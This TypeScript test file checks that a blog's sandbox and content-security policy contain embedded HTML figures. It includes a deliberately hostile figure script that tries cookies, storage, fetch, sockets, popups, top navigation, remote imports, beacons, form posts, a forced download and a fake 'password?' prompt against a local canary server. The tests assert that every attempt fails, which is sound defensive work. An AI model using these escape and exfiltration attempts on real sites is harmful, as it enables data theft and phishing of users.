import { execFileSync } from "node:child_process";
import { readFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { root } from "../../cli/paths";
import { withBrowser } from "../support/browser/browser";
import { Front } from "../support/nginx/front";

/** What the app says of a figure, and of a page (a constant of two lines or three). */
const script = "import json; from blog.files import file_headers; print(json.dumps(file_headers('/x', 'text/html')))";
const app = join(root, "app");
const figureHeaders = JSON.parse(execFileSync("python3", ["-c", script], { cwd: app, encoding: "utf8" })) as Record<
  string,
  string
>;
const policy = [
  ...(/POLICY = \(([^)]*)\)/s.exec(readFileSync(join(app, "blog/headers.py"), "utf8"))?.[1] ?? "").matchAll(/"(.*)"/g),
]
  .map((found) => found[1])
  .join("");

let front: Front;
let outside: Server;
let canary: string;
const reached: string[] = [];
const cache = "public, max-age=31536000, immutable";
const figure = "/static/posts/evil.0123456789.html";

/** Each tries one way out; what it could do is in `got`. */
const attack = () => `<!doctype html><meta charset="utf-8"><title>evil</title>
<form id="form" method="post" action="${canary}/form"><input name="a" value="1"></form>
<script>
const got = [];
const attempt = async (name, body) => { try { await body(); got.push(name); } catch { } };
const loaded = (tag, attributes) => new Promise((resolve, reject) => {
  const node = Object.assign(document.createElement(tag), attributes);
  node.onload = resolve; node.onerror = reject; setTimeout(reject, 1500); document.body.append(node);
});
addEventListener("load", async () => {
  await attempt("parent", () => { if (!(parent !== self && parent.document.title)) throw 0; });
  await attempt("cookie", () => { document.cookie = "a=1"; if (!document.cookie) throw 0; });
  await attempt("storage", () => localStorage.setItem("a", "1"));
  await attempt("database", () => new Promise((yes, no) => { const r = indexedDB.open("a"); r.onsuccess = yes; r.onerror = no; }));
  await attempt("fetch", () => fetch("${canary}/fetch", { mode: "no-cors" }));
  await attempt("fetch of the blog", () => fetch("/", { mode: "no-cors" }));
  await attempt("request", () => new Promise((yes, no) => { const r = new XMLHttpRequest(); r.onload = yes; r.onerror = no; r.open("GET", "${canary}/xhr"); r.send(); }));
  await attempt("socket", () => new Promise((yes, no) => { const s = new WebSocket("${canary}/ws".replace("http", "ws")); s.onopen = yes; s.onerror = no; }));
  await attempt("events", () => new Promise((yes, no) => { const s = new EventSource("${canary}/events"); s.onopen = yes; s.onerror = no; }));
  await attempt("worker", () => new Promise((yes, no) => { const w = new Worker("data:text/javascript,postMessage(1)"); w.onmessage = yes; w.onerror = no; setTimeout(no, 1000); }));
  await attempt("service worker", () => navigator.serviceWorker.register("${figure}"));
  await attempt("popup", () => { if (!open("${canary}/popup")) throw 0; });
  await attempt("top", () => { if (top === self) throw 0; top.location = "${canary}/top"; });
  await attempt("import", () => import("${canary}/import.js"));
  await attempt("script", () => loaded("script", { src: "${canary}/script.js" }));
  await attempt("image", () => loaded("img", { src: "${canary}/image" }));
  await attempt("style", () => loaded("link", { rel: "stylesheet", href: "${canary}/style.css" }));
  await attempt("dialog", () => { if (!confirm("password?")) throw 0; });
  navigator.sendBeacon?.("${canary}/beacon");
  loaded("iframe", { src: "${canary}/frame" }).catch(() => 0);
  loaded("iframe", { src: "/" }).catch(() => 0);
  loaded("object", { data: "${canary}/object" }).catch(() => 0);
  loaded("link", { rel: "prefetch", href: "${canary}/prefetch" }).catch(() => 0);
  parent.postMessage({ location: "${canary}/message" }, "*");
  const link = Object.assign(document.createElement("a"), { href: "${canary}/blank", target: "_blank" });
  document.body.append(link); link.click();
  const download = Object.assign(document.createElement("a"), { href: "data:text/plain,x", download: "x.exe" });
  document.body.append(download); download.click();
  document.getElementById("form").submit();
  document.body.dataset.got = JSON.stringify(got);
  document.body.dataset.origin = self.origin;
});
</script>`;

const post = `<!doctype html><html lang="en"><title>Post</title><body><div style="height:10px"></div><details><summary>Open</summary>
<iframe src="${figure}" title="x" sandbox="allow-scripts" loading="lazy" width="736" height="300"></iframe></details></body></html>`;

beforeAll(async () => {
  outside = createServer((request, response) => {
    reached.push(request.url ?? "");
    response.writeHead(200, { "Access-Control-Allow-Origin": "*", "Content-Type": "text/javascript" }).end("1");
  }).listen(0, "127.0.0.1");
  await new Promise((resolve) => outside.once("listening", resolve));
  canary = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
  front = await Front.start("figures");
  front.reply = ({ path }) => {
    const html = { "Content-Type": "text/html; charset=utf-8" };
    if (path === "/csp-report") return { status: 204 };
    if (path === figure)
      return { status: 200, headers: { ...html, ...figureHeaders, "Cache-Control": cache }, body: attack() };
    return {
      status: 200,
      headers: { ...html, "Content-Security-Policy": policy, "Cache-Control": "no-store" },
      body: post,
    };
  };
});
afterAll(async () => {
  await front.stop();
  outside.close();
});

const site = () => `http://${front.address.host}:${front.address.port}`;

/** Waits for the figure's last line. */
const result = async (page: Page, where: "frame" | "page") => {
  await expect.poll(() => page.frames().some((frame) => frame.url().endsWith(figure)), { timeout: 10_000 }).toBe(true);
  const frame = where === "page" ? page.mainFrame() : page.frames().find((one) => one.url().endsWith(figure));
  await frame?.waitForFunction("document.body.dataset.origin", undefined, { timeout: 30_000 });
  return (await frame?.evaluate(
    "({ got: JSON.parse(document.body.dataset.got), origin: document.body.dataset.origin })",
  )) as {
    got: string[];
    origin: string;
  };
};

describe("a figure's own policy, through nginx and its cache", () => {
  it("reaches the browser as the app wrote it, also from the cache and for an unchanged copy", async () => {
    for (const headers of [{}, {}, { "Accept-Encoding": "gzip" }]) {
      const answer = await front.ask(figure, { headers });
      expect(answer.status).toBe(200);
      for (const [name, value] of Object.entries(figureHeaders)) {
        expect([name, answer.headers.get(name.toLowerCase())]).toEqual([name, [value]]);
      }
    }
  });
});

/** What a page opens from now on: windows by their address, downloads, dialogs by their kind. */
function openedBy(page: Page): string[] {
  const opened: string[] = [];
  page.on("popup", (popup) => opened.push(popup.url()));
  page.on("download", () => opened.push("download"));
  page.on("dialog", (dialog) => opened.push(dialog.type()));
  return opened;
}

describe("a hostile figure in Chromium", () => {
  it("is not loaded before it is opened, and then gets nowhere", async () => {
    await withBrowser(async (browser) => {
      const page = await browser.newPage();
      const opened = openedBy(page);
      reached.length = 0;
      const requests: string[] = [];
      page.on("request", (request) => requests.push(new URL(request.url()).pathname));
      await page.goto(`${site()}/post`);
      await page.waitForLoadState("networkidle");
      expect(requests).not.toContain(figure);
      await page.locator("summary").click();
      expect(await result(page, "frame")).toEqual({ got: [], origin: "null" });
      await page.waitForLoadState("networkidle");
      expect([page.url(), opened, reached]).toEqual([`${site()}/post`, [], []]);
      expect(await page.context().cookies()).toEqual([]);
    });
  });

  it("cannot replace itself with another site", async () => {
    await withBrowser(async (browser) => {
      const page = await browser.newPage();
      reached.length = 0;
      await page.goto(`${site()}/post`);
      await page.locator("summary").click();
      await result(page, "frame");
      const frame = page.frames()[1];
      await frame?.evaluate(`location.href = "${canary}/self"`);
      await expect.poll(() => page.frames()[1]?.url(), { timeout: 10_000 }).toContain("chrome-error:");
      expect(reached).toEqual([]);
    });
  });

  it("is as harmless when its address is opened", async () => {
    await withBrowser(async (browser) => {
      const page = await browser.newPage();
      const opened = openedBy(page);
      reached.length = 0;
      await page.goto(site() + figure);
      expect(await result(page, "page")).toEqual({ got: [], origin: "null" });
      expect([page.url(), opened, reached]).toEqual([site() + figure, [], []]);
    });
  });
});
